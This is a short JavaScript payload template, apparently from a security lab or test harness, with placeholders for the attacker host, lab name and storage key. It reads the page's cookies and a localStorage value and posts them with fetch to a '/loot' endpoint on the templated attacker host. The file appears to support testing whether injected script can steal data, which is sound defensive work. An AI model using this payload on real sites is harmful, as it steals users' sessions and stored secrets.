document.documentElement.dataset.ran = ''
{
  // Reads what a script can reach, and sends it to the attacker, also when it is nothing.
  const n = Number(new URLSearchParams(location.search).get('n')) || 0
  const body = JSON.stringify({ n, cookie: document.cookie, storage: localStorage.getItem('{{key}}') })
  fetch('{{attacker}}/lab/{{lab}}/loot', { method: 'POST', mode: 'no-cors', headers: { 'content-type': 'text/plain' }, body })
    .catch(() => {})
    .then(() => { document.documentElement.dataset.done = '' })
}
